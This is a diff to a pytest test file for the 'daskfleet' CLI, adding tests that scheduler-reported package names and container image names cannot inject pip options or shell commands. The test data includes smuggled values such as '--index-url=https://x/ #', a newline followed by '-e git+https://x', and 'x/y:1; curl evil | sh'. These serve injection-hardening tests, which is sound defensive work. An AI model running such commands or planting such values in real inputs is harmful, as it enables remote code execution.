@@ -14,10 +14,11 @@ from typer.testing import CliRunner
 
 from daskfleet.cli import app
 from daskfleet.team.environment.formats import (
-    COMPARED,
+    NAMES,
     UnusableVersionError,
     checked,
     conda_environment,
+    image_commands,
     requirements,
 )
 from tests.daskfleet.client.played_fleet import played, pod
@@ -53,18 +54,33 @@ def test_what_is_no_version_is_not_written(version: str) -> None:
         checked({**PACKAGES, "dask": version})
 
 
-def test_a_scheduler_without_a_python_is_told() -> None:
-    with pytest.raises(UnusableVersionError, match="its python is ''"):
+@pytest.mark.parametrize(
+    "name",
+    [
+        "--index-url=https://x/ #",
+        "numpy @ https://x/numpy.whl #",
+        "dask\n-e git+https://x",
+        "nunpy",
+    ],
+)
+def test_what_dask_does_not_compare_is_not_written(name: str) -> None:
+    with pytest.raises(UnusableVersionError, match="no package that Dask compares") as refused:
+        checked({**PACKAGES, name: "1.0"})
+    assert str(refused.value).isprintable()
+
+
+def test_every_package_that_dask_compares_is_known() -> None:
+    assert set(get_versions()["packages"]) == NAMES
+
+
+def test_a_scheduler_that_hides_its_python_is_no_traceback() -> None:
+    with pytest.raises(UnusableVersionError, match="does not say its Python"):
         checked({"dask": "2026.8.0"})
 
 
-@pytest.mark.parametrize("name", ["surprise", "x\n--index-url http://x\ny"])
-def test_nothing_else_of_a_schedulers_choice_is_installed(name: str) -> None:
-    assert checked({**PACKAGES, name: "1.0"}) == PACKAGES
-
-
-def test_all_is_written_that_dask_compares() -> None:
-    assert get_versions()["packages"].keys() == COMPARED
+def test_an_image_is_one_word_of_the_command() -> None:
+    text = image_commands("x/y:1; curl evil | sh", team="fraud")
+    assert "'x/y:1; curl evil | sh' python\n" in text
 
 
 @pytest.fixture
